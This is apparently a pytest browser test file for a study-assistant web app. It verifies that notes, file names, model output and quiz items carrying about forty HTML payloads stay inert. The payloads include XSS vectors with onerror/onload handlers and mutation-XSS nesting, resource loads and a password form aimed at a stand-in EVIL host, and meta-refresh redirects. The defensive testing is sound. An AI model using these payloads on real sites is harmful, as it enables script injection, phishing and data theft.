"""Forty ways to make a page load, run or send something, in all that notes, names, models, items and learners write."""

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from assistant.items import Evidence, Item, Items
from assistant.journal import Journal
from assistant.review import Reviews
from assistant.settings import AssistantSettings
from ingest.shelf import Shelf
from ingest.sync import sync
from tests.browser import ask, opened, served, tab
from tests.fake_openai import FakeServer
from tests.listening import listening

pytestmark = pytest.mark.slow

OWN = "window.owned=1"
LOADING = (
    "<img src=EVIL/1>",
    "<img srcset='EVIL/2 1x, EVIL/2b 2x'>",
    "<picture><source srcset=EVIL/3><img></picture>",
    "<div style='background:url(EVIL/4)'>x</div>",
    "<style>@import 'EVIL/5'; body{background:url(EVIL/5b)}</style>",
    "<link rel=stylesheet href=EVIL/6>",
    "<link rel=prefetch href=EVIL/7>",
    "<video poster=EVIL/8 src=EVIL/8b autoplay></video>",
    "<audio autoplay src=EVIL/9></audio>",
    "<video><track default src=EVIL/10></video>",
    "<svg><image href=EVIL/11 /></svg>",
    "<svg><image xlink:href=EVIL/12 /></svg>",
    "<svg><use href=EVIL/13#a /></svg>",
    "<svg><style>*{fill:url(EVIL/14)}</style><rect/></svg>",
    "<svg><feImage href=EVIL/15 /></svg>",
    "<iframe src=EVIL/16></iframe>",
    "<iframe srcdoc=\"<img src='EVIL/17'>\"></iframe>",
    "<object data=EVIL/18></object>",
    "<embed src=EVIL/19>",
    "<input type=image src=EVIL/20>",
    "<table background=EVIL/21><tr><td>x</table>",
    "<body background=EVIL/22>",
)
"""What would load from elsewhere."""
RUNNING = (
    f"<img src=x onerror={OWN}>",
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<script>{OWN}</script>",
    f"<details open ontoggle={OWN}>x</details>",
    f"<input autofocus onfocus={OWN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={OWN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={OWN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={OWN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={OWN}>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{OWN}</script>'></iframe>",
    f"<a href='javascript:{OWN}'>press</a>",
    f"[press](javascript:{OWN})",
    f"<object data='data:text/html,<script>parent.{OWN}</script>'></object>",
)
"""What would run."""
LEADING = (
    "<form action=EVIL/40><input type=password name=p autofocus><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=EVIL/41'>",
    "<base href=EVIL/42/>",
    "![x](EVIL/43)",
    '[x](EVIL/44 "title")',
    "<a href=EVIL/45 ping=EVIL/46>x</a>",
)
"""What would lead away, or ask for a password."""
FOREIGN = (
    "img:not(.page), picture, video, audio, svg image, svg use, svg script, feImage, iframe, object, embed, form, "
    "input, meta, base, link, math, style, script, noscript, [style]:not(.bar > span), [background], a"
)
PLACES = ("#log", "#live", "#panel", "#past", "#tree", "#note", "#trash", "#uploaded", "#review-card", "#review-source")


class Elsewhere(ThreadingHTTPServer):
    """Another host: whoever asks it for anything has told it what is on the screen."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Listening)
        self.asked: list[str] = []


class Listening(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815, as the base class names it

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with listening(Elsewhere()) as server:
        yield server


def payloads(elsewhere: Elsewhere, *kinds: tuple[str, ...]) -> list[str]:
    return [one.replace("EVIL", f"http://127.0.0.1:{elsewhere.server_address[1]}") for kind in kinds for one in kind]


def foreign(page: Any) -> list[str]:
    """Return the tags in what others wrote that could do anything."""
    found: list[str] = page.evaluate(
        "([places, foreign]) => places.flatMap(place => [...document.querySelectorAll(place)])"
        ".flatMap(place => [...place.querySelectorAll(foreign)]).map(one => one.outerHTML.slice(0, 200))",
        [PLACES, FOREIGN],
    )
    return [one for one in found if "status-tracker" not in one]  # Gradio's own


def due(home: Path, notes: Path, hostile: list[str]) -> Item:
    """Have an item reviewed whose every text is hostile; return it."""
    settings = AssistantSettings(home=home, notes=notes, llm_url="http://127.0.0.1:9/v1")
    shelf = Shelf(settings)
    sync(shelf, wait=True)
    path = next(path for path in shelf.ledger.notes() if path.endswith("zorgon.md"))
    version = shelf.ledger.notes()[path].version
    text = shelf.ledger.text(version) or ""
    quote = "The Zorgon protocol handshake needs three packets."
    evidence = Evidence(path, "§ " + hostile[0], quote, text.index(quote), text.index(quote) + len(quote), version)
    options = (hostile[1], hostile[2], hostile[3], hostile[4])
    item = Item("mcq", " ".join(hostile), options[0], evidence, options, explanation=" ".join(hostile))
    with_items = Items.of(shelf.folder)
    with_items.add([item])
    reviews = Reviews(Journal.of(settings), settings)
    for days in (60, 59):
        reviews.add(item, 3, correct=True, at=time.time() - days * 86400)
    shelf.close()
    return item


@contextmanager
def app(place: Path, models: Path, hostile: list[str], url: str) -> Iterator[Any]:
    notes, home = place / "notes", place / "home"
    course = notes / "<img src=x onerror=window.owned=1>"
    course.mkdir(parents=True)
    body = "\n\n".join(f"## {one}\n\nAbout {one} there is this." for one in hostile)
    text = f"# Zorgon\n\nThe Zorgon protocol handshake needs three packets.\n\n{body}\n"
    (course / "zorgon.md").write_text(text)
    (course / "<svg onload=window.owned=1>.md").write_text("# Quibbler\n\nThe Quibbler listens on port 4711.\n")
    home.mkdir()
    (home / "models").symlink_to(models)
    due(home, notes, hostile)
    with served(notes, home, STUDY_LLM_URL=url) as running:
        yield running


def test_what_others_write_is_shown_and_does_nothing(
    browser: Any, models: Path, tmp_path: Path, elsewhere: Elsewhere
) -> None:
    hostile = payloads(elsewhere, LOADING, RUNNING, LEADING)
    assert len(hostile) >= 40
    said = "\n\n".join(f"{one} The Zorgon protocol handshake needs three packets. [1]" for one in hostile)
    with (
        FakeServer(said) as model,
        app(tmp_path, models, hostile, model.url) as running,
        opened(browser, running) as page,
    ):
        for part in (hostile[:22], hostile[22:]):
            turn = ask(page, "How many packets does the Zorgon protocol handshake need? " + " ".join(part))
            assert hostile[0] in page.locator("#log .answer").first.inner_text()
            turn.locator(".answer .chip").first.click()
            page.wait_for_selector("#panel mark")
            turn.get_by_role("button", name="Under the hood").click()
            page.wait_for_selector("#panel .hood")
            assert foreign(page) == []
        tab(page, "Notes")
        page.wait_for_selector("#tree li:has-text('zorgon.md')")
        page.locator("#tree li button").first.click()
        page.wait_for_selector("#note .text")
        page.locator("#tree li button", has_text="zorgon.md").click()
        page.wait_for_selector("#note .text:has-text('Zorgon')")
        assert foreign(page) == []
        tab(page, "Review")
        page.click("#review-start")
        page.wait_for_selector("#review-card h2")
        assert hostile[22] in page.locator("#review-card h2").inner_text()
        page.keyboard.press("1")
        page.wait_for_selector("#review-card .verdict")
        assert foreign(page) == []
        assert page.evaluate("window.owned") is None
        assert page.title() == "Study assistant"
        page.wait_for_timeout(300)
    assert elsewhere.asked == []


def test_even_unescaped_nothing_is_loaded_from_elsewhere_and_nothing_runs(
    browser: Any, models: Path, tmp_path: Path, elsewhere: Elsewhere
) -> None:
    hostile = payloads(elsewhere, LOADING, RUNNING)
    with app(tmp_path, models, hostile[:5], "http://127.0.0.1:9/v1") as running:
        context = browser.new_context()
        page = context.new_page()
        page.goto(running.url)
        page.wait_for_selector("#question textarea")
        page.evaluate(
            "all => all.forEach(one => { const place = document.createElement('div');"
            " document.body.append(place); place.innerHTML = one; })",
            hostile,
        )
        page.evaluate(
            "to => Promise.allSettled([fetch(to), navigator.sendBeacon(to), new Promise((done, failed) => {"
            " const image = new Image(); image.onload = done; image.onerror = failed; image.src = to; })])",
            payloads(elsewhere, ("EVIL/sent",))[0],
        )
        page.wait_for_timeout(1000)
        assert page.evaluate("window.owned") is None
        context.close()
    assert elsewhere.asked == [], json.dumps(elsewhere.asked)
